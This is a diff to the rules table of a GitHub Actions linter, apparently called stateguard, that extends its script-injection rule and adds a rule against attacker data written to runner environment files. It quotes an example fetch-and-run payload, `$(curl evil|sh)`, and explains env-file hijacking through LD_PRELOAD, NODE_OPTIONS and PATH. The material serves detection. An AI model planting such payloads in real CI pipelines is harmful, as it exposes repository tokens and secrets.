@@ -217,9 +217,13 @@ export const RULES = [
     severity: 'error',
     summary:
       'An expression that reads untrusted data (`github.event.*`, `github.head_ref`, `inputs.*`, a whole context as ' +
-      'in `toJSON(github.event)`, or `env.X` where X was set from such data at workflow, job or step level) is ' +
-      'interpolated into a `run:` script or an actions/github-script `script:`. Context names are ' +
-      "case-insensitive, as in GitHub's expression parser.",
+      'in `toJSON(github.event)`, `env.X` where X was set from such data at workflow, job or step level, a step ' +
+      'output of a step that reads such data, a job output or matrix value built from it) is interpolated into a ' +
+      '`run:` script or an input that an action runs as code (actions/github-script `script`, azure/cli ' +
+      '`inlineScript`, mikefarah/yq `cmd`, \u2026: the table in docs/rules.md). Values that cannot carry a payload ' +
+      '(numbers, ids, SHAs and booleans of the event, the result of a comparison or of ' +
+      '`contains()`/`startsWith()`/`endsWith()`, `boolean`/`number`/`choice` inputs) are not untrusted. Context ' +
+      "names are case-insensitive, as in GitHub's expression parser.",
     why:
       'The expression is pasted into the script text before the shell or JavaScript parses it: a branch name or ' +
       "title such as `$(curl evil|sh)` runs as code with the job's token and secrets.",
@@ -347,6 +351,28 @@ export const RULES = [
       'Replace the zeros with the commit SHA of the stateguard release you audited: ' +
       '`uses: <owner>/stateguard/actions/<name>@<40-hex-sha> # v1`.',
     coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+  },
+  // --- issue 29, lint-taint: attacker data written to the runner's environment files ---
+  {
+    id: 'SG204',
+    name: 'env-file-injection',
+    severity: 'error',
+    summary:
+      'In a workflow triggered by `pull_request_target`, `issue_comment` or `workflow_run`, a `run:` writes ' +
+      'attacker data (`github.event.*`, `github.head_ref`, a string input, `$GITHUB_EVENT_PATH`, or a variable, ' +
+      'step output or job output set from them) to `$GITHUB_ENV`, `$GITHUB_OUTPUT` or `$GITHUB_PATH`.',
+    why:
+      "Those triggers run with the base repository's secrets and a write token on an outsider's event. A value " +
+      'written to `$GITHUB_ENV` can hold a newline and set any variable (`LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV`) ' +
+      "for every later step; one written to `$GITHUB_PATH` puts a directory of the attacker's choosing first on " +
+      'the PATH; one written to `$GITHUB_OUTPUT` can set other outputs that later steps trust.',
+    fix:
+      'Do not write the value to these files: pass it through `env:` to the step that needs it and quote it there ' +
+      '(`"$TITLE"`), or check it against a strict pattern first (e.g. `[[ "$N" =~ ^[0-9]+$ ]]`) and write only ' +
+      'what passed; numbers, SHAs and booleans of the event are not attacker data.',
+    coveredBy:
+      "zizmor's github-env audit reports writes to `GITHUB_ENV`/`GITHUB_PATH` under dangerous triggers; " +
+      "actionlint does not. Following the data through step and job outputs and shell variables is stateguard's.",
   },
 ] as const satisfies readonly RuleDef[];
 
